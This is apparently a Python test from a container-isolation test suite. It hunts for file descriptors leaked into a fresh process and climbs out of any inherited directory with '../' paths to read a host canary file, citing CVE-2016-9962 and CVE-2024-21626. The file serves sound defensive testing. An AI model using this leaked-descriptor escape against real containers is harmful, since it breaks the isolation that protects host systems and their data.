# Looks for any descriptor above 2 that a fresh process was given, and climbs out of each directory among them.
# Why it matters: one inherited directory of the host undoes every mount namespace (CVE-2016-9962, CVE-2024-21626).
# When it works: there is such a descriptor; with a directory, the host's secret is read through it.
# control: weakened: leaked-fd
import os
import stat

from attempt import blocked, escaped, fact, is_canary, run


def attempt():
    leaked = []
    for number in range(3, 1024):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        leaked.append(f"{number} -> {os.readlink(f'/proc/self/fd/{number}')}")
        if stat.S_ISDIR(mode):
            try:
                file = os.open("../" * 40 + fact("HOST_FILE").lstrip("/"), os.O_RDONLY, dir_fd=number)
                if is_canary(os.read(file, 4096)):
                    escaped(f"read the host's secret through inherited descriptor {leaked[-1]}")
            except OSError:
                pass
    if leaked:
        escaped("inherited " + ", ".join(leaked))
    blocked("a fresh process has descriptors 0, 1 and 2 and no other")


run(attempt)
